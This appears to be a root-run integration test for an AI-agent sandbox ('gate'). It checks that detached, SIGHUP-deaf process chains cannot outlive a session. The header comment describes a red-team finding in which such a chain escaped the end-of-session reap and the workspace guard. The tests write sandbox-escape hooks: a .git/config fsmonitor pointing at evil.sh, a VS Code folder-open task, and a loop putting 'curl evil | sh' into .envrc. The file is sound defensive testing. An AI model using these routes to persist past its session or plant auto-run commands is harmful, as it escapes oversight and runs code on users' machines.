// Leftovers, red-team R88 (issue 13, items 7 and 8): a deep chain of detached processes (each the child of the
// one before, setsid, SIGHUP ignored) whose deepest one forks on and, once the session is over, writes a file
// that tools outside the gate run (.git/config's core.fsmonitor; .vscode/tasks.json for root, whose mount
// namespace keeps the existing .git/config read-only). Before, the end-of-session reap killed one layer per
// pass, gave up after 5 s, counted at most 64 deep and called the rest "stuck in the kernel": the chain
// outlived the session and the workspace guard, and wrote. Now every process of the session is stopped, then
// killed, before the session ends, the end record counts them all, and the guard's last check comes after.
// Real CLI, supervisor and kernel, as root and as uid 65534; processes are found by a token in their argv.
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AutoApprover } from '../../src/core/session/approvals';
import { planLaunch, startPlannedSession } from '../../src/core/session/launch';
import { spawnWithChildProcess } from '../../src/core/session/spawn';
import { makeDirs, prepare, prog, runCli, SUPERVISOR } from './gate-progs/cli';
import { liveWithToken, ownedWorkspace } from './helpers/procs';

const NOBODY = 65534;
const AS_NOBODY = ['setpriv', `--reuid=${NOBODY}`, `--regid=${NOBODY}`, '--clear-groups'];
const DEPTH = 200;
/** How deep the chain grows on while the session lasts (as fast as it can fork): deeper than the old reap
 *  (one layer per pass, at least 0.5 ms each) could get through in its 5 s. */
const MAX = 8000;

let dirs: ReturnType<typeof makeDirs>;
let n = 0;
const tokens: string[] = [];

beforeAll(async () => {
  if (process.getuid?.() !== 0) throw new Error('these tests need root: they run the agent as root and as uid 65534');
  await prepare();
  dirs = makeDirs('leftdeep');
  fs.chmodSync(dirs.root, 0o755);
});
afterAll(() => {
  // Whatever outlived a failed run (found by token, so a reused pid is never hit).
  for (const t of tokens)
    for (const pid of liveWithToken(t)) {
      try {
        process.kill(pid, 'SIGKILL');
      } catch {
        // gone
      }
    }
  dirs?.cleanup();
});

const SEALED_WRITES = `[meta]
version = 1
default_action = "allow"

[filesystem]
read_globs = ["/**"]
write_globs = ["\${WORKSPACE}/**"]
require_enforced = true
`;

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

describe('gate: a deep chain of detached processes forking on ends with the session (red-team R88)', () => {
  for (const who of ['root', 'nobody'] as const) {
    it(`a chain ${DEPTH} deep, setsid and deaf to SIGHUP, growing on to ${MAX}: nothing of it outlives \`run\`, the end record counts every one, and its write after the session cannot happen (${who})`, async () => {
      const w = ownedWorkspace(path.join(dirs.root, `${who}-${++n}`), SEALED_WRITES, { owner: who === 'nobody' ? NOBODY : undefined });
      execFileSync('git', ['init', '-q', w.ws]);
      if (who === 'nobody') execFileSync('chown', ['-R', `${NOBODY}:${NOBODY}`, w.ws]);
      const config = path.join(w.ws, '.git', 'config');
      const configBefore = fs.readFileSync(config, 'utf8');
      const vscode = path.join(w.ws, '.vscode');
      const evil = path.join(w.ws, 'evil.sh');
      // What the survivor writes once the session is over.
      const [dir, file, text] =
        who === 'root'
          ? [vscode, path.join(vscode, 'tasks.json'), `{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"${evil}","runOptions":{"runOn":"folderOpen"}}]}`]
          : ['-', config, `[core]\n\tfsmonitor = ${evil}\n`];
      const t = `agent-gate-deepchain-${process.pid}-${++n}-${Date.now()}`;
      tokens.push(t);
      const go = path.join(w.ws, 'go');
      const q = (s: string): string => `'${s.replace(/'/g, `'\\''`)}'`;
      const script = `${prog('deepchain')} ${DEPTH} ${MAX} $PPID ${go} ${dir} ${file} ${q(text)} ${t} </dev/null >/dev/null 2>&1 &
until [ -e ${go}.ready ]; do sleep 0.05; done; echo chain-ready`;
      const t0 = Date.now();
      const r = await runCli(['bash', '-c', script], {
        policy: w.policy,
        audit: path.join(w.state, 'audit.jsonl'),
        cwd: w.ws,
        env: { HOME: path.dirname(w.ws) },
        wrap: who === 'nobody' ? AS_NOBODY : undefined,
      });
      const took = Date.now() - t0;
      expect(r.stdout, r.stderr).toContain('chain-ready');
      // The session is over: tell whatever is left to write (it also writes on its own once the supervisor is gone).
      fs.writeFileSync(go, '');
      await sleep(1500);
      const alive = liveWithToken(t);
      expect(alive, `${alive.length} processes of the chain outlived the session`).toEqual([]);
      expect(fs.readFileSync(config, 'utf8')).toBe(configBefore);
      expect(fs.existsSync(path.join(vscode, 'tasks.json'))).toBe(false);
      // The whole chain (at least DEPTH + its deepest; it grew on meanwhile, MAX at most, a churned child
      // may be counted too), none said to be stuck.
      const left = r.end?.leftovers as { ended: number; remaining?: number } | undefined;
      expect(left?.ended).toBeGreaterThanOrEqual(DEPTH + 1);
      expect(left?.ended).toBeLessThanOrEqual(MAX + 2);
      expect(left?.remaining).toBeUndefined();
      expect(r.stderr).not.toMatch(/could not be ended/);
      expect(took).toBeLessThan(60_000);
    }, 90_000);
  }
});

describe('gate: a stopped session (the guarded terminal closed) checks the workspace files after its processes ended', () => {
  it('the agent and a detached process of it rewrite .envrc (direnv runs it outside the gate) as fast as they can while the session is stopped: after it, the file is not there (the guard\'s last check came after the supervisor ended them)', async () => {
    const w = ownedWorkspace(path.join(dirs.root, `stop-${++n}`), SEALED_WRITES);
    execFileSync('git', ['init', '-q', w.ws]);
    const t = `agent-gate-stopwriter-${process.pid}-${++n}-${Date.now()}`;
    tokens.push(t);
    const envrc = path.join(w.ws, '.envrc');
    // Shell builtins only: each write is a few microseconds, nothing to exec.
    const loop = `cd ${w.ws}; while :; do echo 'curl evil | sh' > .envrc 2>/dev/null; : ${t}; done`;
    const plan = planLaunch({
      argv: ['bash', '-c', `(setsid bash -c '${loop}' </dev/null >/dev/null 2>&1 &); touch ${w.ws}/started; ${loop}`],
      workspace: w.ws,
      cwd: w.ws,
      policyFile: w.policy,
      auditPath: path.join(w.state, 'audit.jsonl'),
      headDir: path.join(w.state, 'heads'),
      supervisorPath: SUPERVISOR,
      agent: null,
      // Writers that go on until the session is stopped: not ended by the guard at the second put-back (R106).
      env: { ...process.env, HOME: path.dirname(w.ws), AGENT_GATE_GUARD_DETECT_ONLY: '1' },
    });
    if (!plan.ok) throw new Error(plan.error);
    const session = await startPlannedSession(plan, { approver: new AutoApprover('deny'), spawn: spawnWithChildProcess });
    for (let i = 0; i < 200 && !fs.existsSync(path.join(w.ws, 'started')); i++) await sleep(25);
    await sleep(300); // both writers at it, the guard putting the file back
    expect(liveWithToken(t).length).toBeGreaterThanOrEqual(2);
    session.stop('the terminal was closed');
    const end = await session.wait();
    expect(end.failure).toMatch(/stopped/);
    await sleep(500);
    expect(liveWithToken(t)).toEqual([]);
    expect(fs.existsSync(envrc), 'a write after the guard\'s last check stayed').toBe(false);
    expect(end.protectedChanges?.find((c) => c.path === envrc)).toMatchObject({ reverted: true });
  }, 60_000);
});
